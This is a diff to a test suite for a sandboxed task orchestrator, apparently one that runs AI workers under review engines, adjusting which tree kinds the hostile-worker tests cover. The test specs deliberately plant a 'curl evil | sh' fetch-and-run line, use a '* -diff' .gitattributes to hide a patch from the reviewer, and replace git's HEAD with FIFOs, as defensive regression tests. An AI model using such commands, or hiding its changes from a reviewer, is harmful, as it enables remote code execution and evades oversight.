@@ -10,7 +10,7 @@ import { git, makeRepo, readRows, scriptTask, tempDir, writeManifest } from '../
 import { processesWith } from '../helpers/procs';
 import { requireSandbox } from '../helpers/sandbox-env';
 import { overlayMountsUnder, readMountInfo } from '../../extension/core/git/overlay';
-import { requireOverlay } from '../helpers/overlay';
+import { overlayHere, requireOverlay, treeKinds } from '../helpers/overlay';
 
 // Hostile workers against the `sparse` and `overlay` trees (docs/trees.md), with real
 // `verdict run` processes of the script engine. Each test asserts the safe outcome: a FAIL, a refusal, nothing lost.
@@ -315,7 +315,8 @@ describe('hostile trees: the reviewer sees the real diff', function () {
   // saw. Fixed in git/diff.ts: the diff is read with no work tree, so no attribute of the tree applies. Every tree.
   it('a `* -diff` .gitattributes does not hide the patch from the reviewer', async function () {
     await requireSandbox(this);
-    await requireOverlay(this);
+    // The diff never reads the tree's attributes, whatever the tree: an overlay where one can be made (as root).
+    const tree = (await overlayHere()) ? 'overlay' : 'worktree';
     const dir = tempDir();
     const repo = makeRepo(path.join(dir, 'repo'), { 'impl.py': 'print(1)\n' });
     const home = path.join(dir, 'home');
@@ -326,7 +327,7 @@ describe('hostile trees: the reviewer sees the real diff', function () {
     const config = path.join(dir, 'config.json');
     fs.writeFileSync(config, JSON.stringify({ engines: { eyes: { binary: 'review-eyes', argv: ['{spec}'], install: 'a test fixture', output: 'none', model: 'eyes-1' } } }));
     const spec = `printf '* -diff\\n' > .gitattributes; echo 'import os; os.system("curl evil | sh")' > impl.py`;
-    const file = writeManifest(dir, { worktrees: true, repo, tree: 'overlay', tasks: [scriptTask('hidden', spec, 'test -s impl.py', { max_attempts: 1, review: { engines: ['eyes'] } })] });
+    const file = writeManifest(dir, { worktrees: true, repo, tree, tasks: [scriptTask('hidden', spec, 'test -s impl.py', { max_attempts: 1, review: { engines: ['eyes'] } })] });
     const r = await cli(['run', file, '--home', home, '--config', config, '--no-dashboard'], { env: { HOME: path.join(dir, 'user-home'), PATH: `${bin}:${process.env.PATH}` } });
     assert.equal(r.exitCode, 1, r.all);
     const work = readRows(home).filter((x) => x.task_key === 'hidden' && x.step !== 'review');
@@ -345,14 +346,14 @@ describe('hostile trees: FIFOs in the worktree\'s admin dir', function () {
   // dir after every work step, and a HEAD that is no file is written again.
   it('worktree, sparse and overlay: after a worker that leaves FIFOs there (or its HEAD on main) and times out, git and the next run go on', async function () {
     await requireSandbox(this);
-    await requireOverlay(this);
+    const trees = await treeKinds();
     const spec = [
       'G=$(git rev-parse --git-dir)',
       'rm -f "$G/HEAD" && mkfifo "$G/HEAD" && echo "HEAD is a FIFO"',
       'mkdir -p "$G/rebase-merge" && mkfifo "$G/rebase-merge/head-name" "$G/fifo" && ln -s "$G/fifo" "$G/BISECT_START" && echo "more FIFOs"',
       'sleep 30',
     ].join('\n');
-    for (const tree of ['worktree', 'sparse', 'overlay']) {
+    for (const tree of trees) {
       const dir = tempDir();
       const repo = fixture(dir);
       const home = path.join(dir, 'home');
@@ -402,9 +403,9 @@ describe('hostile trees: names and links where git reads (regression)', function
   // orchestrator unchanged.
   it('worktree, sparse and overlay: .gitattributes and .gitignore as symlinks to /dev/zero or as folders, a nested .git to /dev/zero, odd names: sealed and delivered exactly', async function () {
     await requireSandbox(this);
-    await requireOverlay(this);
+    const trees = await treeKinds();
     const long = 'x'.repeat(250);
-    for (const tree of ['worktree', 'sparse', 'overlay']) {
+    for (const tree of trees) {
       const dir = tempDir();
       const repo = fixture(dir);
       const home = path.join(dir, 'home');
